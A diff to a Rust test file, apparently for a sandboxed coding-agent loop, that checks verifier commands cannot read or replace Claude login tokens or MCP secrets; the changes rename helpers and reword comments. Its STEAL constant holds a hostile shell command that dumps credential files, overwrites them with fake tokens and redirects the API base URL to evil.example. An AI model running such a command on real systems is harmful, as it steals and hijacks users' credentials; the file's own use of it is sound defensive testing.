@@ -9,12 +9,12 @@ const LOGIN: &str =
 const RENEWED: &str =
     r#"{"claudeAiOauth":{"accessToken":"ACCESS-canary-2","refreshToken":"REFRESH-canary-2","expiresAt":2}}"#;
 const MCP: &str = r#"{"mcpServers":{"db":{"command":"x","env":{"DB_TOKEN":"MCP-canary-1"}}}}"#;
-/// What a hostile command does: it shows every login that it finds, and puts another in its place.
+/// A hostile command: it prints every login that it finds, and replaces it.
 const STEAL: &str = "cat ~/.claude/.credentials.json ~/.claude.json; find ~ -type f -exec cat {} +; \
     mkdir -p ~/.claude; echo '{\"claudeAiOauth\":{\"accessToken\":\"EVIL\",\"refreshToken\":\"EVIL\",\"expiresAt\":9}}' > ~/.claude/.credentials.json; \
     echo '{\"env\":{\"ANTHROPIC_BASE_URL\":\"http://evil.example\"}}' > ~/.claude/settings.json";
 
-/// A user who is logged in, whose `claude` runs `session`.
+/// A logged-in user whose `claude` runs `session`.
 fn logged_in(session: &str) -> Place {
     let mut place = Place::new();
     place.vars.clear();
@@ -32,13 +32,13 @@ fn login(place: &Place) -> String {
     std::fs::read_to_string(place.env.path("home/.claude/.credentials.json")).unwrap()
 }
 
-/// Every file below a folder that holds `word`.
-fn holding(folder: &Path, word: &str) -> Vec<String> {
+/// Every file below a folder that contains `word`.
+fn files_containing(folder: &Path, word: &str) -> Vec<String> {
     let mut found = Vec::new();
     for entry in std::fs::read_dir(folder).into_iter().flatten().flatten() {
         let path = entry.path();
         if entry.file_type().is_ok_and(|kind| kind.is_dir()) {
-            found.extend(holding(&path, word));
+            found.extend(files_containing(&path, word));
         } else if std::fs::read(&path)
             .is_ok_and(|text| text.windows(word.len()).any(|w| w == word.as_bytes()))
         {
@@ -48,7 +48,7 @@ fn holding(folder: &Path, word: &str) -> Vec<String> {
     found
 }
 
-/// A sandboxed run of this kind; `None` where this machine has none.
+/// A sandboxed run of this kind; `None` if this machine has no sandbox.
 fn run(place: &Place, isolation: &str, more: &[&str]) -> Option<ralph_loop_testkit::Finished> {
     let _ = std::fs::remove_file(place.env.path("repo/part.txt"));
     let done = place.ralph(&[&["run", "--new", "--json", "--isolation", isolation], more].concat());
@@ -60,10 +60,14 @@ fn run(place: &Place, isolation: &str, more: &[&str]) -> Option<ralph_loop_testk
 }
 
 #[track_caller]
-fn nothing_is_told(place: &Place, what: &str) {
+fn assert_nothing_leaked(place: &Place, what: &str) {
     for folder in ["state", "repo/.ralph"] {
         for word in ["ACCESS-canary", "REFRESH-canary", "MCP-canary"] {
-            assert_eq!(holding(&place.env.path(folder), word), [""; 0], "{what}: {word} in {folder}");
+            assert_eq!(
+                files_containing(&place.env.path(folder), word),
+                [""; 0],
+                "{what}: {word} in {folder}"
+            );
         }
     }
 }
@@ -86,7 +90,7 @@ fn checks_and_setup_neither_see_nor_replace_logins() {
             let Some(done) = run(&place, isolation, more) else { return };
             done.exits(0);
             assert_eq!(login(&place), LOGIN, "{isolation} {more:?}");
-            nothing_is_told(&place, isolation);
+            assert_nothing_leaked(&place, isolation);
         }
     }
 }
@@ -106,7 +110,7 @@ fn only_a_renewed_token_leaves_the_sandbox() {
             let Some(done) = run(&place, isolation, &[]) else { return };
             done.exits(0);
             assert_eq!(login(&place), kept, "{isolation}: {said}");
-            assert_eq!(holding(&place.env.path("state"), "ACCESS-canary-1"), [""; 0], "{isolation}");
+            assert_eq!(files_containing(&place.env.path("state"), "ACCESS-canary-1"), [""; 0], "{isolation}");
         }
     }
 }
@@ -133,13 +137,13 @@ fn resumed_run_hides_logins_from_checks() {
     place.config(&json!({"verifiers": [{"name": "tests", "command_argv": ["sh", "-c", check]}]}));
     let Some(done) = run(&place, "auto", &[]) else { return };
     done.exits(0);
-    // Killed in the middle of a session, with the login inside.
+    // Killed during a session, with the login inside.
     let session = std::fs::read_to_string(place.env.path("bin/claude")).unwrap();
     program(&place.env.path("bin/claude"), "cat > /dev/null; sleep 600");
     std::fs::remove_file(place.env.path("repo/part.txt")).unwrap();
     let mut running = place.command(&place.env.path("repo"), &["run", "--new"]).spawn().unwrap();
     ralph_loop_testkit::env::until("the login", || {
-        let inside = holding(&place.env.path("state/ralph/fences"), "ACCESS-canary");
+        let inside = files_containing(&place.env.path("state/ralph/fences"), "ACCESS-canary");
         (!inside.is_empty()).then_some(())
     });
     running.kill().unwrap();
@@ -147,10 +151,10 @@ fn resumed_run_hides_logins_from_checks() {
     std::fs::write(place.env.path("bin/claude"), session).unwrap();
     place.ralph(&["resume"]).exits(0);
     assert_eq!(login(&place), LOGIN);
-    nothing_is_told(&place, "resumed");
+    assert_nothing_leaked(&place, "resumed");
 }
 
-/// A text as one word of a shell.
+/// Quotes a text as one shell word.
 fn quoted(text: &str) -> String {
     format!("'{}'", text.replace('\'', "'\\''"))
 }
